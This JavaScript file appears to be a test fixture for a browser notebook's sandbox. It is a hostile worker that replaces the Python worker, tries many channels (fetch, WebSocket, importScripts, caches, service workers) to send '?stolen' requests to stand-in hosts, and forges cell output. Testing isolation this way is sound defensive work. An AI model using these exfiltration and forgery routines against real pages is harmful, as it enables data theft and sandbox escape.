// An attacker in the place of the worker: the page starts it in the very frame in which it starts Python, and it keeps
// everything that a browser gives to a worker. It says how each try ended. ORIGIN, OTHER and SCRIPT are written before it.

const MOST = 3000; // milliseconds; what never answers has not arrived either, and the hosts would know

function event(target, good, bad) {
  return new Promise((resolve, reject) => {
    target[good] = resolve;
    target[bad] = (event) => {
      event.preventDefault(); // of a worker it would be this one's error too, and the page would end it
      reject(new Error(bad));
    };
  });
}

function worker(url) {
  return event(new Worker(url), "onmessage", "onerror");
}

function send(request) {
  const sent = event(request, "onload", "onerror");
  request.open("GET", `${ORIGIN}?stolen`);
  request.send();
  return sent;
}

/** The name of the cache of a site that is kept, which the test has written into the cell. */
let kept = "livecells";

/**
 * WebKit gives a worker without an origin a cache, where others refuse: who else finds in it what this one leaves? What it does
 * under the name of the kept site must not reach that: the page looks.
 */
async function foundInCaches() {
  const names = await caches.keys();
  for (const name of ["stolen", kept]) {
    const opened = await caches.open(name);
    await opened.put(`${ORIGIN}index.html`, new Response("stolen"));
  }
  await caches.delete(kept);
  if (!names.length) throw new Error("nothing of others");
  return names.join();
}

async function nested() {
  const source = `fetch("${ORIGIN}?stolen").then(() => postMessage("arrived"), (error) => postMessage(error.message))`;
  const { data } = await worker(URL.createObjectURL(new Blob([source])));
  if (data !== "arrived") throw new Error(data);
}

const tries = {
  "fetch, own site": () => fetch(`${ORIGIN}?stolen`),
  "fetch, other host": () => fetch(`${OTHER}?stolen`, { mode: "no-cors" }),
  "XMLHttpRequest": () => send(new XMLHttpRequest()),
  "WebSocket": () => event(new WebSocket(`${OTHER.replace("http", "ws")}?stolen`), "onopen", "onerror"),
  "EventSource": () => event(new EventSource(`${ORIGIN}?stolen`), "onopen", "onerror"),
  "WebTransport": () => new WebTransport(`${OTHER.replace("http", "https")}?stolen`).ready,
  "FontFace": () => new FontFace("x", `url(${ORIGIN}?stolen)`).load(),
  "importScripts, own site": () => importScripts(`${SCRIPT}?stolen`),
  "importScripts, other host": () => importScripts(`${OTHER}?stolen`),
  "import, own site": () => import(`${SCRIPT}?stolen`),
  "import, other host": () => import(`${OTHER}?stolen`),
  "Worker, own site": () => worker(`${SCRIPT}?stolen`),
  "fetch in a Worker": nested,
  "eval": () => (0, eval)("1"),
  "indexedDB": () => event(indexedDB.open("stolen"), "onsuccess", "onerror"),
  "localStorage": () => localStorage.setItem("stolen", "1"),
  "file system": () => navigator.storage.getDirectory(),
  "cookieStore": () => cookieStore.set("stolen", "1"),
  "serviceWorker, the site's own": () => navigator.serviceWorker.register(`${ORIGIN}sw.js`),
  "serviceWorker": () => navigator.serviceWorker.register(`${SCRIPT}?stolen`),
  "caches of others": foundInCaches,
};

async function attempt(work) {
  try {
    const slow = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), MOST));
    const value = await Promise.race([work(), slow]);
    return `SUCCESS ${typeof value === "string" ? value : ""}`;
  } catch (error) {
    return `refused: ${error.name} ${error.message}`;
  }
}

async function attack() {
  const ended = await Promise.all(Object.entries(tries).map(async ([name, work]) => [name, await attempt(work)]));
  // whom these reach is for the page to say
  postMessage("stolen");
  try {
    new BroadcastChannel("reader").postMessage("stolen");
  } catch {
    // refused is as good
  }
  return Object.fromEntries(ended);
}

self.onmessage = ({ ports: [port] }) => {
  port.onmessage = async ({ data }) => {
    if (data.type === "boot") port.postMessage({ type: "ready" });
    if (data.type !== "run") return;
    const { id, cells } = data;
    kept = cells.at(-1).source;
    const text = JSON.stringify(await attack());
    const empty = { sql: [], spans: [], objects: [], tables: [], moments: [], goals: [] };
    const nothing = { ...empty, value: null, error: null, instrument: null, advice: null };
    const forged = JSON.stringify({ output: [{ stream: "stdout", text }], ...nothing });
    for (const { id: cell } of cells) {
      port.postMessage({ type: "started", id, cell });
      port.postMessage({ type: "result", id, cell, seconds: 0, result: new TextEncoder().encode(forged).buffer });
    }
    port.postMessage({ type: "finished", id, memory: 0, left: "" });
  };
};
